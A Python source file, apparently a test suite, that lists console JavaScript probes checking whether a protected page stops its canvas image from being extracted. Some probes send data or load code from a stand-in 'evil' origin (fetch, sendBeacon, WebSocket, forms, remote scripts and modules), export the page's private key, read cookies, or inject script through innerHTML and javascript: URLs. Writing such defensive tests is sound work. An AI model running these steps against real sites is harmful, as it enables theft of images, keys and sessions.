"""Ways of taking a picture out of a page, as scripts that a person types into the console: each gives true if it got something out.

`PLAIN`: whether the same script succeeds on a page of no defence with a picture on a canvas, which is the positive control; None where there
is nothing to compare it with (`why` says so).
"""

from dataclasses import dataclass


@dataclass(frozen=True, slots=True, kw_only=True)
class Probe:
    """One way. `script`: body of an async function of (canvas, evil): `evil` is another server's origin.

    `why`: what is said where it succeeds.
    """

    area: str
    name: str
    script: str
    plain: bool | None = True
    why: str = ""


def _canvas(name: str, script: str, *, plain: bool | None = True) -> Probe:
    return Probe(area="canvas, from the console", name=name, script=script, plain=plain)


def _out(name: str, script: str, *, plain: bool | None = True, why: str = "") -> Probe:
    return Probe(area="sending it elsewhere", name=name, script=script, plain=plain, why=why)


def _kept(name: str, script: str, *, plain: bool | None = True, why: str = "") -> Probe:
    return Probe(area="what the page keeps", name=name, script=script, plain=plain, why=why)


def _ways(name: str, script: str, *, plain: bool | None = True, why: str = "") -> Probe:
    return Probe(area="the browser's own ways", name=name, script=script, plain=plain, why=why)


def _code(name: str, script: str, *, plain: bool | None = True, why: str = "") -> Probe:
    return Probe(area="bringing in code", name=name, script=script, plain=plain, why=why)


SETTLE = "const settle = (ms) => new Promise((done) => setTimeout(done, ms));"

SCRIPTS: tuple[Probe, ...] = (
    _canvas("`toDataURL`", "return canvas.toDataURL().length > 100"),
    _canvas("`toBlob`", "return await new Promise((done) => canvas.toBlob((blob) => done(blob.size > 50)))"),
    _canvas(
        "`getImageData`",
        "return canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height).data.length > 0",
    ),
    _canvas("`captureStream`", "return canvas.captureStream(5).getTracks().length > 0"),
    _canvas(
        "`MediaRecorder` over `captureStream`",
        "const kept = []; const recorder = new MediaRecorder(canvas.captureStream(10));"
        " recorder.ondataavailable = ({ data }) => kept.push(data); recorder.start(50);"
        " canvas.getContext('2d').fillRect(0, 0, 1, 1); await settle(400); recorder.stop(); await settle(100);"
        " return recorder.state === 'inactive'",
    ),
    _canvas(
        "a copy on another canvas, then `toDataURL`",
        "const copy = document.createElement('canvas'); copy.width = canvas.width; copy.height = canvas.height;"
        " copy.getContext('2d').drawImage(canvas, 0, 0); return copy.toDataURL().length > 100",
    ),
    _canvas(
        "`createImageBitmap` of the canvas, drawn and read",
        "const bitmap = await createImageBitmap(canvas); const copy = document.createElement('canvas');"
        " copy.getContext('2d').drawImage(bitmap, 0, 0); return copy.toDataURL().length > 100",
    ),
    _canvas(
        "`OffscreenCanvas` and `convertToBlob`",
        "const off = new OffscreenCanvas(64, 64); off.getContext('2d').drawImage(canvas, 0, 0);"
        " return (await off.convertToBlob()).size > 50",
    ),
    _canvas(
        "WebCodecs `VideoFrame`",
        "const frame = new VideoFrame(canvas, { timestamp: 0 }); const size = frame.allocationSize();"
        " await frame.copyTo(new Uint8Array(size)); return size > 0",
    ),
    _canvas(
        "a WebGL texture of the canvas",
        "const gl = document.createElement('canvas').getContext('webgl') ?? document.createElement('canvas').getContext('webgl2');"
        " if (!gl) return false; gl.bindTexture(gl.TEXTURE_2D, gl.createTexture());"
        " gl.texImage2D(gl.TEXTURE_2D, 0, gl.RGBA, gl.RGBA, gl.UNSIGNED_BYTE, canvas); return gl.getError() === 0",
        plain=None,
    ),
    _canvas(
        "`toDataURL` of a fresh frame's own prototype",
        "const frame = document.createElement('iframe'); document.body.append(frame);"
        " const pristine = frame.contentWindow.HTMLCanvasElement.prototype.toDataURL; frame.remove();"
        " return pristine.call(canvas).length > 100",
    ),
    _canvas(
        "`ClipboardItem` of the canvas",
        "const blob = await new Promise((done) => canvas.toBlob(done));"
        " await navigator.clipboard.write([new ClipboardItem({ 'image/png': blob })]); return true",
    ),
    _canvas(
        "picture in picture of the canvas",
        "const video = document.createElement('video'); video.srcObject = canvas.captureStream(5); video.muted = true;"
        " await video.play(); return video.srcObject.getVideoTracks().length > 0",
    ),
    _kept(
        "pixels in the page's markup (`outerHTML`)",
        "return /data:image|;base64,|blob:/.test(document.documentElement.outerHTML)",
        plain=None,
    ),
    _kept(
        "the picture in an `img`, `picture` or `video`",
        "return document.querySelector('img, picture, video, embed, object') !== null",
        plain=None,
    ),
    _kept(
        "blob URLs among the resources",
        "return performance.getEntriesByType('resource').some(({ name }) => name.startsWith('blob:'))",
        plain=None,
    ),
    _kept(
        "local and session storage, IndexedDB but for the key, Cache Storage, OPFS",
        "const databases = (await indexedDB.databases()).filter(({ name }) => name !== 'isinglass'); const stores = await caches.keys(); let files = 0;"
        " const folder = await navigator.storage.getDirectory(); for await (const _ of folder.keys()) files += 1;"
        " return localStorage.length + sessionStorage.length + databases.length + stores.length + files > 0",
        plain=None,
    ),
    _kept(
        "the page's key, exported from IndexedDB",
        "const opening = indexedDB.open('isinglass'); const database = await new Promise((done) =>"
        " { opening.onsuccess = () => done(opening.result); });"
        " const asked = database.transaction('key').objectStore('key').get(1);"
        " const pair = await new Promise((done) => { asked.onsuccess = () => done(asked.result); }); database.close();"
        " await crypto.subtle.exportKey('jwk', pair.privateKey); return true",
        plain=None,
    ),
    _kept(
        "the session's cookie (`document.cookie`)",
        "document.cookie; return document.cookie.length > 0",
        plain=None,
    ),
    _kept(
        "the page in the HTTP cache",
        "const answer = await fetch(location.pathname, { cache: 'only-if-cached', mode: 'same-origin' }); return answer.ok",
    ),
    _kept(
        "a frame in the HTTP cache or among the resources",
        "return performance.getEntriesByType('resource').some(({ name, encodedBodySize }) => encodedBodySize > 2000 && !/[.](js|css|svg)$/.test(name))",
        plain=None,
    ),
    _out(
        "`fetch` to another server",
        "await fetch(`${evil}/fetch`, { mode: 'no-cors', method: 'POST', body: 'x' }); return true",
    ),
    _out(
        "`sendBeacon` to another server",
        "navigator.sendBeacon(`${evil}/beacon`, 'x'); await settle(250); return 'ask'",
    ),
    _out(
        "an image's address on another server",
        "new Image().src = `${evil}/image?x`; await settle(250); return 'ask'",
    ),
    _out(
        "a style sheet's address on another server",
        "const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = `${evil}/style?x`;"
        " document.head.append(link); await settle(3000); link.remove(); return 'ask'",
    ),
    _out(
        "`prefetch` of another server",
        "const link = document.createElement('link'); link.rel = 'prefetch'; link.href = `${evil}/prefetch?x`;"
        " document.head.append(link); await settle(3000); link.remove(); return 'ask'",
    ),
    _out(
        "WebSocket to another server",
        "new WebSocket(`${evil.replace('http', 'ws')}/socket`); await settle(250); return 'ask'",
    ),
    _out(
        "`EventSource` to another server",
        "new EventSource(`${evil}/events`); await settle(250); return 'ask'",
    ),
    _out(
        "a form sent to another server",
        "const form = document.createElement('form'); form.action = `${evil}/form`; form.method = 'post'; form.target = '_blank';"
        " document.body.append(form); form.submit(); await settle(3000); form.remove(); return 'ask'",
    ),
    _out(
        "`window.open` of another server",
        "const opened = window.open(`${evil}/opened`); await settle(250); return opened ? 'ask' : false",
    ),
    _out(
        "a frame of another server",
        "const frame = document.createElement('iframe'); frame.src = `${evil}/frame`; document.body.append(frame);"
        " await settle(3000); frame.remove(); return 'ask'",
    ),
    _out(
        "a WebRTC peer connection",
        "const peer = new RTCPeerConnection(); peer.createDataChannel('x'); const offer = await peer.createOffer(); peer.close();"
        " return offer.sdp.length > 0",
        plain=True,
        why="no header closes WebRTC; a script could send what it can read, and the canvas can't be read",
    ),
    _out(
        "`postMessage` to an opener or parent",
        "return window.opener !== null || window.parent !== window",
        plain=None,
    ),
    _ways(
        "`getDisplayMedia`",
        "await navigator.mediaDevices.getDisplayMedia({ video: true }); return true",
        plain=None,
    ),
    _ways(
        "`getUserMedia` (a camera on the screen)",
        "await navigator.mediaDevices.getUserMedia({ video: true }); return true",
        plain=None,
    ),
    _ways("clipboard: write by script", "await navigator.clipboard.writeText('x'); return true"),
    _ways("clipboard: read by script", "await navigator.clipboard.readText(); return true"),
    _ways(
        "clipboard: `execCommand('copy')` of the picture",
        "const range = document.createRange(); range.selectNode(canvas); getSelection().removeAllRanges(); getSelection().addRange(range);"
        " let held = null; const spy = ({ clipboardData }) => { held = [...clipboardData.types]; };"
        " document.addEventListener('copy', spy); document.execCommand('copy'); document.removeEventListener('copy', spy);"
        " getSelection().removeAllRanges(); return held !== null && held.some((kind) => kind.startsWith('image/'))",
        plain=None,
    ),
    _ways(
        "`window.print`",
        "let asked = false; addEventListener('beforeprint', () => { asked = true; }, { once: true }); window.print(); return asked",
    ),
    _ways(
        "a download by `a[download]` of a data URL",
        "const a = document.createElement('a'); a.download = 'x.txt'; a.href = 'data:text/plain,x'; document.body.append(a);"
        " a.click(); a.remove(); await settle(300); return 'download'",
    ),
    _ways(
        "a download of a blob URL",
        "const a = document.createElement('a'); a.download = 'x.bin'; a.href = URL.createObjectURL(new Blob(['x']));"
        " document.body.append(a); a.click(); a.remove(); await settle(300); return 'download'",
    ),
    _ways(
        "`showSaveFilePicker`",
        "const handle = await Promise.race([showSaveFilePicker(), settle(300).then(() => 'shown')]); return handle !== null",
        plain=None,
    ),
    _ways(
        "document picture in picture",
        "const pip = await documentPictureInPicture.requestWindow(); pip.document.body.append(canvas.cloneNode()); pip.close(); return true",
        plain=None,
        why="it needs a click of the person's, and then shows marked frames in another window, which the page covers with its own",
    ),
    _ways(
        "USB, serial, HID and Bluetooth",
        "const found = await Promise.any([navigator.usb.getDevices(), navigator.serial.getPorts(), navigator.hid.getDevices()]);"
        " return Array.isArray(found)",
        plain=True,
    ),
    _ways(
        "print style: the picture while printing",
        "return 'print'",
    ),
    # In a task of the page's own: what the debugger itself evaluates is free of the page's policy.
    _code(
        "`eval`",
        "setTimeout(() => { window.evaluated = (0, eval)('1 + 1'); }); await settle(100); return window.evaluated === 2",
    ),
    _code(
        "`new Function`",
        "setTimeout(() => { window.constructed = new Function('return 2')(); }); await settle(100); return window.constructed === 2",
    ),
    _code(
        "an inline script",
        "const script = document.createElement('script'); script.textContent = 'window.inlined = 1'; document.head.append(script);"
        " script.remove(); return window.inlined === 1",
    ),
    _code(
        "a script of another server",
        "const script = document.createElement('script'); script.src = `${evil}/script`; document.head.append(script);"
        " await settle(3000); script.remove(); return 'ask'",
    ),
    _code(
        "`innerHTML` with an event handler",
        "const box = document.createElement('div'); box.innerHTML = '<img src=x onerror=\"window.handled = 1\">';"
        " document.body.append(box); await settle(5000); box.remove(); return window.handled === 1",
    ),
    _code(
        "`document.write`",
        "document.implementation.createHTMLDocument(); const frame = document.createElement('iframe'); document.body.append(frame);"
        " frame.contentDocument.write('<p>x</p>'); const wrote = frame.contentDocument.body.textContent === 'x'; frame.remove(); return wrote",
    ),
    _code(
        "a worker of a blob",
        "const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));"
        " return await new Promise((done) => { worker.onmessage = () => done(true); worker.onerror = () => done(false);"
        " setTimeout(() => done(false), 5000); })",
    ),
    _code("a shared worker", "new SharedWorker(URL.createObjectURL(new Blob(['1']))); return true"),
    _code("a service worker", "await navigator.serviceWorker.register('/sw.js'); return true"),
    _code("a module imported from another server", "await import(`${evil}/module.js`); return true"),
    _code(
        "speculation rules (prerender)",
        "const rules = document.createElement('script'); rules.type = 'speculationrules';"
        " rules.textContent = JSON.stringify({ prerender: [{ urls: [location.href] }] }); document.head.append(rules);"
        " const kept = rules.isConnected && rules.textContent.length > 0; rules.remove(); return kept",
    ),
    _code(
        "a `javascript:` address",
        "window.jumped = 0; const a = document.createElement('a'); a.href = 'javascript:window.jumped = 1';"
        " document.body.append(a); a.click(); await settle(100); a.remove(); return window.jumped === 1",
    ),
)
